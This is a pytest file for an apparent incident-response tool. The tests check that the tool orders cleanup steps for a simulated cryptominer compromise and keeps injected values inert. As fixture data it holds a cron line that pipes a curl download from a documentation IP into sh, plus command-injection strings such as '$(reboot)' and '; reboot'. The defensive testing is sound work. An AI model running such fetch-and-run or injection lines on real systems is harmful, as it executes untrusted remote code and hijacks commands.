"""A plan has each step once, in the order in which it works, and its script does nothing until it is opened."""

from __future__ import annotations

import json
import shlex
import subprocess

import pytest

from extension.plan import Plan, make_plan
from extension.plan.formats import as_json, as_markdown, as_script, as_text
from extension.triage import Triage
from tests.support.made_triage import HOSTILE, NOW, made, process

MINER = process(
    7,
    1,
    "kswapd0",
    exe_path="/var/tmp/.x/kswapd0",
    pool="198.51.100.7:3333",
    config_path="/var/tmp/.x/c.json",
    parent_name="init",
)
INCIDENT = made(
    {
        "miner_process": [MINER],
        "pool_connection": [{**MINER, "remote_address": "198.51.100.7", "remote_port": "3333", "matched": "198.51.100.7:3333"}],
        "odd_place_program": [MINER],
        "orphaned_script_guard": [process(9, 1, "sh", cmdline="sh /var/tmp/.x/guard.sh")],
        "respawning_program": [
            {**MINER, "restarter_pid": "9", "restarter": "sh(9) /var/tmp/.x/guard.sh", "mechanism": "guard_loop"}
        ],
        "preloaded_library": [{"path": "/usr/lib/libx.so", "source_path": "/etc/ld.so.preload", "line": "1", "pid": "7"}],
        "immutable_persistence_file": [{"path": "/etc/cron.d/x", "kind": "cron"}],
        "cron_download_and_run": [
            {"path": "/etc/cron.d/x", "line": line, "command": f"curl http://203.0.113.9/{line} | sh"} for line in ("2", "5")
        ],
        "known_malware_key": [
            {
                "username": "root",
                "path": "/root/.ssh/authorized_keys",
                "line": "3",
                "key_type": "ssh-rsa",
                "fingerprint": "SHA256:x",
            }
        ],
        "uid_zero_account": [{"username": "sysbak", "path": "/etc/passwd", "line": "31"}],
    }
)


def planned(triage: Triage = INCIDENT, language: str = "en") -> Plan:
    return make_plan(triage.incidents, "web-03", float(NOW), language)


def commands(plan: Plan) -> list[str]:
    return [step.command for step in plan.steps if step.command]


def test_the_order_is_the_one_that_works() -> None:
    listed = commands(planned())
    order = [
        "ip route replace blackhole 198.51.100.7", "kill -STOP 9", "kill -STOP 7", 'cp --no-clobber /proc/7/exe "$CASE/7.exe"',
        "chattr -i -a /etc/cron.d/x",
        "sed -n '1p' /etc/ld.so.preload | grep -qF -e /usr/lib/libx.so && sed -i '1d' /etc/ld.so.preload",
        # The last line first, or the other would move.
        "sed -n '5p' /etc/cron.d/x | grep -qF -e 'curl http://203.0.113.9/5 | sh' && sed -i '5d' /etc/cron.d/x",
        "sed -n '2p' /etc/cron.d/x | grep -qF -e 'curl http://203.0.113.9/2 | sh' && sed -i '2d' /etc/cron.d/x",
        "sed -n '3p' /root/.ssh/authorized_keys | grep -qF -e ssh-rsa && sed -i '3d' /root/.ssh/authorized_keys",
        "sed -n '31p' /etc/passwd | grep -q '^sysbak:' && sed -i '31d' /etc/passwd",
        "kill -KILL 9", "kill -KILL 7", "rm -- /var/tmp/.x/kswapd0", "passwd root",
        'minehunt triage --format json --output "$CASE/after.json"', "minehunt watch --for 15m",
    ]  # fmt: skip
    assert [command for command in listed if command in order] == order


def test_each_command_is_there_once_with_all_that_ask_for_it() -> None:
    plan = planned()
    assert len(commands(plan)) == len(set(commands(plan)))
    (freeze,) = [step for step in plan.steps if step.command == "kill -STOP 7"]
    assert {"miner_process", "pool_connection", "odd_place_program", "respawning_program"} <= set(freeze.queries)


def test_nothing_is_changed_for_a_finding_that_is_no_compromise() -> None:
    weak = made({"memory_only_program": [MINER], "weak_ssh_key": [{"username": "kim", "path": "/k", "line": "1"}]})
    changing = ("kill", "rm", "sed -i", "chattr", "ip route")
    assert not [command for command in commands(planned(weak)) if command.startswith(changing) or "sed -i" in command]
    assert planned(made({})).steps == ()


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_script_does_nothing_and_is_one_when_opened(language: str) -> None:
    script = as_script(planned(language=language), INCIDENT.incidents, language)
    body = script.split("\n}\n")[1]
    assert all(not line or line.startswith("#") for line in body.splitlines())
    opened = "\n".join(
        line[1:] if line.startswith("#") and not line.startswith(("# ", "##")) else line for line in script.splitlines()
    )
    assert "if still 7 " in opened and "set -eu" in opened
    for text in (script, opened):
        done = subprocess.run(["sh", "-n"], input=text, text=True, capture_output=True)
        assert done.returncode == 0, done.stderr
    assert subprocess.run(["sh"], input=script, text=True, capture_output=True).stdout == ""


def test_the_script_tells_a_process_from_the_next_with_its_pid() -> None:
    head = as_script(planned(), INCIDENT.incidents, "en").split("\n}\n")[0] + "\n}\n"
    child = subprocess.Popen(["sleep", "30"])
    try:
        import time

        for start, expected in ((int(time.time()), 0), (int(time.time()) - 3600, 1)):
            assert subprocess.run(["sh"], input=f"{head}still {child.pid} {start}\n", text=True).returncode == expected
    finally:
        child.kill()
        child.wait()


def test_hostile_values_stay_values_in_every_form() -> None:
    row = {**MINER, **dict.fromkeys(("exe_path", "config_path", "pool", "cmdline", "process_name"), "/opt/" + HOSTILE)}
    job = {"path": "/etc/cron.d/x; reboot", "line": "2", "command": "a'b$(reboot)`reboot`"}
    triage = made({"miner_process": [row], "odd_place_program": [row], "cron_download_and_run": [job]})
    plan = make_plan(triage.incidents, HOSTILE, float(NOW), "en", "my report;reboot.json")
    for text in (
        as_text(plan, triage.incidents, "en"),
        as_script(plan, triage.incidents, "en"),
        as_markdown(plan, triage.incidents, "en"),
    ):
        assert not any(char in text for char in "\x1b\x07\x00\u202e")
    assert any(step.is_refused for step in plan.steps)
    for command in commands(plan):
        words = shlex.split(command)
        assert not {"reboot", ";reboot.json"} & set(words) and "$(reboot)" not in words
    document = json.loads(as_json(plan, triage.incidents))
    assert {step["phase"] for step in document["steps"]} <= {"contain", "preserve", "eradicate", "recover", "verify"}
